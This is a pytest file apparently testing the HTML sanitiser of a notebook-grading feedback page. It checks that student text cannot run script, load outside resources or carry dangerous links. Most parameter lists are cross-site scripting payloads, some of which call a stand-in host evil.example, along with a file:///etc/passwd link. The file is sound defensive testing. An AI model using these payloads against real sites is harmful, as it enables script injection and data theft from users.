"""The feedback page: what a student wrote is shown, and nothing of it runs in a browser."""

from html.parser import HTMLParser
import re

import nbformat
import pytest

pytest.importorskip("nbgrader", reason="needs requirements-instructor.txt")
from grading.feedback import ATTRIBUTES, TAGS, clean, exporter, harmless


class Elements(HTMLParser):
    """The tags and attributes in a piece of HTML, and its text."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.links, self.text = set(), [], ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert {name for name, _ in attributes} <= allowed, (tag, attributes)
        self.links += [value for name, value in attributes if name == "href"]

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def scheme(link):
    """The scheme of a link as a browser reads it; empty for a place on the same site."""
    link = re.sub(r"[\t\n\r]", "", link.lstrip("".join(map(chr, range(33)))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", link)
    return match[1].lower() if match else ""


def rendered(markdown):
    return exporter().markdown2html({"cell": {}}, markdown)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "</p><script>alert(1)//",
        "<<script>>alert(1)<</script>>",
        "<script/src=data:,alert(1)>",
        "<p onclick=alert(1)>x</p>",
        "<b onmouseover='alert(1)' style=x>x</b>",
        "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
        "<td/onfocus=alert(1) tabindex=1 autofocus>x",
        "<a href='/x' onclick=alert(1) target=_top ping=//evil.example>x</a>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1) ",
        "![x](//evil.example/pixel.png)",
        "<video><source onerror=alert(1)></video>",
        "<audio src onloadstart=alert(1)>",
        "<p style='background: url(//evil.example/x)'>x</p>",
        "<span style='position: fixed; inset: 0'>x</span>",
        "<style>p { background: url(//evil.example/x) }</style>",
        "<style>@import '//evil.example/x.css';</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<table background=//evil.example/x><tr><td background=x>y</table>",
        "<svg onload=alert(1)></svg>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><p title='</style><img src=x onerror=alert(1)>'>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<frameset><frame src=x></frameset>",
        "<object data=x.swf></object><embed src=x.swf>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
        "<math href='javascript:alert(1)'><mi>x</mi></math>",
        "<math><annotation-xml encoding='text/html'><script>alert(1)</script></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>",
        "<input autofocus onfocus=alert(1)><textarea><select>",
        "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
        "<!-- <b> --><!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href='x'?><!DOCTYPE html>",
        "<p id=notebook-container class=prompt name=x>x</p>",
        "<x-y onclick=alert(1)>x</x-y><p:x>y</p:x>",
        '```"><script>alert(1)</script>\nx\n```',
        "`<script>alert(1)</script>`",
        "$</script><script>alert(1)</script>$",
        "$$\\text{<img src=x onerror=alert(1)>}$$",
        "# <img src=x onerror=alert(1)>",
        "| a |\n| --- |\n| <script>alert(1)</script> |",
        "> <script>alert(1)</script>",
    ],
)
def test_nothing_runs(text):
    for page in (clean(text), rendered(text)):
        assert Elements(page).tags <= TAGS


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript:1",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript://x%0aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg/>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://x.example/1",
        "view-source:javascript:1",
        "feed:javascript:alert(1)",
    ],
)
def test_links_lead_to_pages_only(address):
    pages = [clean(f'<a href="{address}">x</a>'), clean(f"<a href='{address}' title=t>x</a>")]
    pages += [rendered(f"[x]({address})"), rendered(f"[x](<{address}>)"), rendered(f"<{address}>")]
    pages += [rendered(f"[x][1]\n\n[1]: {address}")]
    for page in pages:
        assert {scheme(link) for link in Elements(page).links} <= {"", "http", "https", "mailto"}


@pytest.mark.parametrize(
    "text",
    [
        '<a href="https://x.example/a?b=1" title="t">x</a>',
        '<a href="mailto:a@x.example">x</a>',
        '<a href="other.html">x</a>',
        '<a href="#part">x</a>',
        '<abbr title="generative adversarial network">GAN</abbr>',
        "<b>a</b> <i>b</i> <em>c</em> <strong>d</strong> <code>e</code> <del>f</del>",
        "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>",
        "<p>a<br>b</p><hr><blockquote>c</blockquote><pre>d\n  e</pre><div>f</div><span>g</span>",
        "<ul><li>a</li></ul><ol><li>b</li></ol>",
        "<details><summary>a</summary>b</details>",
        "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
        "a &lt; b &amp; c &gt; d",
        "$x_1 \\in \\{0, 1\\}$",
    ],
)
def test_marks_of_text_are_kept(text):
    assert clean(text).replace(' rel="noopener noreferrer"', "") == text


def test_markdown_is_shown_as_it_was_meant():
    page = rendered(
        "# Title\n\nBoth *fall*, **but** `x < y`; see [this](https://x.example).\n\n- one\n\n"
        "| a | b |\n| --- | --- |\n| 1 | 2 |\n\n```python\nx = [1]\n```\n\n$$\\frac{a}{b}$$\n"
    )
    elements = Elements(page)
    assert {"h1", "em", "strong", "code", "a", "ul", "li", "table", "td", "pre"} <= elements.tags
    assert elements.links == ["https://x.example"]
    for piece in ("Title", "x < y", "x = [1]", "\\frac{a}{b}"):
        assert piece in elements.text


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "a List<int> of <T>", "x <y and z> w", "<img src=x>"]
)
def test_a_tag_that_is_refused_is_shown_as_text(text):
    assert Elements(clean(f"<p>{text}</p>")).text == text


def test_no_output_reaches_a_browser_as_html():
    data = {
        "text/html": "<script>1</script>",
        "image/png": '"><script>1</script>',
        "text/plain": "x",
    }
    output = nbformat.v4.new_output("display_data", data=data)
    assert harmless(output, False)["data"] == {"text/plain": "x"}


PNG = "iVBORw0KGgo="


def shown(markdown, attachments):
    return exporter().markdown2html({"cell": {"attachments": attachments}}, markdown)


@pytest.mark.parametrize(
    "markdown",
    [
        "so ![image.png](attachment:image.png) there",
        '<img src="attachment:image.png" width="300">',
        "![a][1]\n\n[1]: attachment:image.png",
        f"![a](data:image/png;base64,{PNG})",  # Colab's way
    ],
)
def test_a_picture_in_an_answer_is_kept(markdown):
    page = shown(markdown, {"image.png": {"image/png": PNG}})
    assert f'<img src="data:image/png;base64,{PNG}" alt="a picture in the answer">' in page
    assert page.count("<img") == 1


def test_a_picture_with_a_strange_name_is_kept():
    page = shown("![a](attachment:my%20%C3%BC.png)", {"my ü.png": {"image/jpeg": PNG}})
    assert f"data:image/jpeg;base64,{PNG}" in page


@pytest.mark.parametrize(
    "markdown",
    [
        "so ![a](attachment:gone.png) there",
        '<img src="data:image/svg+xml;base64,PHN2Zz4=" onload="alert(1)"> there',
        '<img src="data:image/png;base64,x" src="//evil.example/x"\' onerror=alert(1)> there',
        "![a](data:text/html;base64,PHN2Zz4=) there",
        "picture-0123456789abcdef there",
        ">" * 5_000 + " there",
        "[" * 5_000 + " there",
    ],
)
def test_what_is_no_picture_does_not_reach_the_browser(markdown):
    page = shown(markdown, {})
    tags = [tag.replace("img", "") for tag in re.findall(r"<img[^>]*>", page)]
    assert "there" in page and all(
        re.fullmatch(r'< src="data:image/png;base64,[^"]*" alt="a picture in the answer">', tag)
        for tag in tags
    )
    assert Elements(re.sub("<img[^>]*>", "", page)).tags <= TAGS
